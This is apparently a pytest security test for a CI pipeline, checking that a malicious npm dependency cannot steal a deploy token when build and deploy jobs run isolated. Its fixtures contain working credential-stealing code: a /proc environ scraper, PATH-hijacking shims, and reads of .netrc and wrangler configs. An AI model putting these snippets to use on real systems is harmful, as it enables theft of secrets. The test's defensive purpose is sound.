"""Jobs that build and deploy a site on separate machines: old dependencies reach no token.

Each job has users, processes, a home and a workspace of its own; from one to the next go the artifacts alone. The build's
machine goes on while the deploy job works: what the dependency left running there goes on looking.
"""

import json
import os
import shutil
import subprocess
import sysconfig
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from functools import cached_property
from pathlib import Path
from typing import Any

import pytest

from ops.tools import node
from sandbox.actions.expressions import render_text
from tests.conftest import ROOT, SITE, World
from tests.support import plain_yaml
from tests.support.site_repository import BUILD, SiteRepository, repository
from tests.support.workflows import generated


@dataclass(frozen=True)
class Way:
    """The jobs that build and deploy a commit, for a request with these parameters."""

    params: Mapping[str, str]
    fetch: str = "fetch-site-production"
    build: str = "build-site"
    deploy: str = "redeploy-production"

    @cached_property
    def jobs(self) -> Any:
        return plain_yaml.load((generated() / ".github/workflows/recover.yml").read_text())["jobs"]


WAYS = {"button": Way({"service": "frontend", "commit": "previous"}), "label": Way({"service": "frontend"})}
UNSHARE = ["unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount-proc"]
HIDDEN = 'for place in $HIDE; do mount -t tmpfs none "$place"; done; '

pytestmark = [
    pytest.mark.skipif(
        shutil.which("unshare") is None
        or subprocess.run([*UNSHARE, "true"], capture_output=True, check=False).returncode != 0,
        reason="needs Linux, and user namespaces that are allowed",
    ),
]

EVIL = """
import os, time
wanted, loot = (b"TOKEN=", b"WEBHOOK_URL="), os.environ["LOOT"]
open(loot + ".began", "w").close()
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            seen = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
        except OSError:
            continue
        for found in seen:
            if any(name in found for name in wanted) and found.partition(b"=")[2]:
                open(loot, "ab").write(found + b"\\n")
    time.sleep(0.01)
"""
INSTALL = """set -e
setsid python3 node_modules/evil/evil.py > /dev/null 2>&1 &
for name in wrangler node npm python3 git; do
  mkdir -p "$HOME/.local/bin" node_modules/.bin ../bin
  for place in "$HOME/.local/bin" node_modules/.bin ../bin; do
    printf '#!/bin/sh\\nenv >> "%s"\\n' "$LOOT" > "$place/$name"; chmod +x "$place/$name"
  done
done
echo "CLOUDFLARE_API_BASE_URL=http://127.0.0.1:9/" | tee .env > ../.env
env >> "$LOOT.build"
cat "$HOME/.netrc" "$HOME/.config/.wrangler/config/default.toml" >> "$LOOT.files" 2> /dev/null || true
while [ ! -e "$LOOT.began" ]; do :; done
mkdir -p dist; cp .env dist/.env; cp -r node_modules/.bin dist/bin; ln -s /proc/self/environ dist/environ
"""


@dataclass
class Jobs:
    """Three machines, each in a subfolder."""

    world: World
    folder: Path
    way: Way
    outputs: dict[str, Any] = field(default_factory=dict)

    def place(self, job: str) -> Path:
        """Return the job's workspace with our files and, if the job checks it out, the repository of the site."""
        workspace = self.folder / job / "workspace"
        if not workspace.exists():
            for part in ("home", "temp"):
                (self.folder / job / part).mkdir(parents=True)
            (self.folder / job / "temp/ops-packages").symlink_to(sysconfig.get_path("purelib"))  # as `setup` leaves it
            for part in ("ops", "templates", ".github/actions"):
                shutil.copytree(
                    ROOT / part, workspace / part, ignore=shutil.ignore_patterns("__pycache__", "node_modules")
                )
            shutil.copy(self.world.config, workspace / "ops.yml")
            if any(step.get("with", {}).get("path") == "app" for step in self.way.jobs[job]["steps"]):
                subprocess.run(
                    ["git", "clone", "-q", str(self.world.folder / "app"), str(workspace / "app")], check=True
                )
        return workspace

    def command(self, job: str) -> tuple[list[str], dict[str, str]]:
        """Return the command and variables of the job's own step, with the secrets of its environment.

        The step uses the action `run` of the workspace.
        """
        workspace, temp = self.place(job), self.folder / job / "temp"
        (step,) = [s for s in self.way.jobs[job]["steps"] if s.get("uses") == "./.github/actions/run"]
        (inner,) = plain_yaml.load((ROOT / ".github/actions/run/action.yml").read_text())["runs"]["steps"]
        secrets = {"CLOUDFLARE_API_TOKEN": self.world.sandbox.token, "SLACK_WEBHOOK_URL": "http://127.0.0.1:9/slack"}
        contexts = {
            "needs": {self.way.fetch: {"outputs": self.outputs}, "gate": {"outputs": self.gate()}},
            "steps": {"setup": {"outputs": {"path": ""}}},
            "secrets": secrets if "environment" in self.way.jobs[job] else {},
            "github": {"token": "ghs_of_the_job", "repository": "fortunet/fortunet"},
            "vars": {},
            "runner": {"temp": str(temp)},
        }
        given = {name: render_text(str(value), contexts) for name, value in step.get("env", {}).items()}
        inputs = {name: render_text(str(value), contexts) for name, value in step["with"].items()}
        sandboxed = {n: v for n, v in self.world.sandbox.environ().items() if not n.endswith("_TOKEN")}
        environ = {
            "PATH": f"{ROOT / '.venv/bin'}:{node.find_node().parent}:/usr/bin:/bin",
            "HOME": str(self.folder / job / "home"),
            "XDG_CACHE_HOME": os.environ.get("XDG_CACHE_HOME") or str(Path.home() / ".cache"),
            "TMPDIR": str(temp),
            "GITHUB_ACTIONS": "true",
            "GITHUB_REPOSITORY": "fortunet/fortunet",
            "GITHUB_RUN_ATTEMPT": "1",
            "GITHUB_OUTPUT": str(temp / "outputs"),
            "GITHUB_WORKSPACE": str(workspace),
            "GITHUB_ACTION_PATH": str(workspace / ".github/actions/run"),
            "RUNNER_TEMP": str(temp),
            "OPS_COMMAND": inputs["command"],
            "OPS_INPUTS": json.dumps(inputs),
            "HIDE": " ".join(str(other) for other in self.folder.iterdir() if other.name != job),
            "STEP": inner["run"],
            **sandboxed,
            **{name: value for name, value in given.items() if value},
        }
        return [*UNSHARE, "sh", "-c", f'{HIDDEN} cd {workspace}; bash -e -c "$STEP"; echo $? > {temp}/code'], environ

    def gate(self) -> Mapping[str, str]:
        at = self.world.sandbox.clock.now().isoformat()
        approved = {"environment": "production", "attempt": "1", "runbook": "redeploy-pages"}
        each = {"params": json.dumps(self.way.params), "requested_at": at, "permission": "checked", **approved}
        return {"pass": json.dumps(each), **each}

    def run(self, job: str) -> str:
        argv, environ = self.command(job)
        done = subprocess.run(argv, env=environ, capture_output=True, text=True, timeout=120, check=False)
        code = (self.folder / job / "temp" / "code").read_text().strip()
        assert code == "0", done.stdout + done.stderr
        return done.stdout + done.stderr

    @contextmanager
    def keep_running(self, job: str, then: str = "") -> Iterator[None]:
        """Run the job's step, then `then`; keep its machine and processes alive until the end."""
        argv, environ = self.command(job)
        waiting = [*argv[:-1], f'{argv[-1]}; {then} echo "the step has ended"; read -r _']
        pipes: dict[str, Any] = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT}
        with subprocess.Popen(waiting, env=environ, text=True, **pipes) as machine:
            assert machine.stdin
            assert machine.stdout
            watch = threading.Timer(120, machine.kill)
            watch.start()
            said = []
            for line in machine.stdout:
                said.append(line)
                if "the step has ended" in line:
                    break
            code = self.folder / job / "temp" / "code"
            try:
                assert code.exists(), "".join(said)
                assert code.read_text().strip() == "0", "".join(said)
                yield
                assert machine.poll() is None, "the machine ended before"
            finally:
                watch.cancel()
                machine.stdin.close()

    def read_outputs(self) -> None:
        """Read the outputs of the fetch job as GitHub does."""
        lines = (self.folder / self.way.fetch / "temp" / "outputs").read_text().splitlines()
        for at, line in enumerate(lines):
            name, between, _ = line.partition("<<")
            if between:
                self.outputs[name] = lines[at + 1]


@pytest.fixture(params=list(WAYS.values()), ids=list(WAYS))
def jobs(world: World, tmp_path: Path, request: pytest.FixtureRequest) -> Jobs:
    way: Way = request.param
    node.install_packages()  # runners have their tools before a job starts
    world.sandbox.switches.pages_propagation_seconds = 0
    world.edit_config("content-type: text/html\n", "content-type: text/html\n              body: good\n")
    app: SiteRepository = repository(world)
    loot = tmp_path / "jobs" / way.build / "loot"
    world.edit_config("          output: dist\n", f"          output: dist\n          env: {{LOOT: {loot}}}\n")
    for name, content in {"evil.py": EVIL, "install.sh": INSTALL}.items():
        path = app.folder / "node_modules" / "evil" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    app.commit("old", page_html="<h1>good</h1>", build_sh=f"{BUILD}sh node_modules/evil/install.sh\n")
    bad = app.commit("bad", page_html="<h1>bad</h1>")
    world.site(timedelta(minutes=10), "bad", commit=bad)
    (tmp_path / "jobs").mkdir()
    found = Jobs(world, tmp_path / "jobs", way)
    for job in (way.fetch, way.build, way.deploy):
        found.place(job)
    return found


def copy_artifact(jobs: Jobs, name: str, source: str, target: str) -> None:
    """Copy plain files, as upload-artifact and download-artifact do."""
    shutil.copytree(jobs.folder / source, jobs.folder / target / name)


def run_fetch(jobs: Jobs) -> None:
    jobs.run(jobs.way.fetch)
    jobs.read_outputs()
    (jobs.folder / jobs.way.build / "temp" / "tree").mkdir()
    shutil.copy(
        jobs.folder / jobs.way.fetch / "temp" / "tree.tar", jobs.folder / jobs.way.build / "temp" / "tree" / "tree.tar"
    )


def test_malicious_dependency_finds_no_token(jobs: Jobs) -> None:
    run_fetch(jobs)

    with jobs.keep_running(jobs.way.build):
        copy_artifact(jobs, "built", f"{jobs.way.build}/temp/built", f"{jobs.way.deploy}/temp")
        (jobs.folder / jobs.way.deploy / "temp" / "configuration").mkdir()
        shutil.copy(
            jobs.folder / jobs.way.fetch / "temp/configuration.json",
            jobs.folder / jobs.way.deploy / "temp/configuration",
        )
        said = jobs.run(jobs.way.deploy)

    live = jobs.world.sandbox.pages.projects[SITE].live
    assert live is not None
    assert live.commit_hash == jobs.outputs["commit"], said
    assert live.files["/index.html"].content == b"<h1>good</h1>"
    assert (jobs.folder / jobs.way.build / "loot.began").exists()
    assert not (jobs.folder / jobs.way.build / "loot").exists()
    assert (jobs.folder / jobs.way.build / "loot.files").read_text() == ""
    held = (jobs.folder / jobs.way.build / "loot.build").read_text()
    assert "TOKEN" not in held
    assert "WEBHOOK" not in held
    published = b"".join(asset.content for asset in live.files.values())
    assert jobs.world.sandbox.token.encode() not in published
    assert "/environ" not in live.files


@pytest.mark.parametrize("jobs", [WAYS["button"]], indirect=True, ids=["button"])
def test_malicious_dependency_finds_token_on_same_machine(jobs: Jobs) -> None:
    """This proves that the test above can fail, and that a laptop is less protected."""
    run_fetch(jobs)
    holds = "CLOUDFLARE_API_TOKEN=found-it timeout 30 sh -c 'while [ ! -s \"$0\" ]; do :; done' "

    with jobs.keep_running(jobs.way.build, then=f"{holds} {jobs.folder / jobs.way.build / 'loot'};"):
        assert "found-it" in (jobs.folder / jobs.way.build / "loot").read_text()


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
def test_build_job_has_no_environment_or_secret(way: Way) -> None:
    build = way.jobs[way.build]

    assert "environment" not in build
    assert build["permissions"] == {"contents": "read"}
    assert "secrets." not in str(build)
    assert "github.token" not in str(build)
    assert all(
        step["with"]["persist-credentials"] is False
        for step in build["steps"]
        if step.get("uses", "").startswith("actions/checkout@")
    )
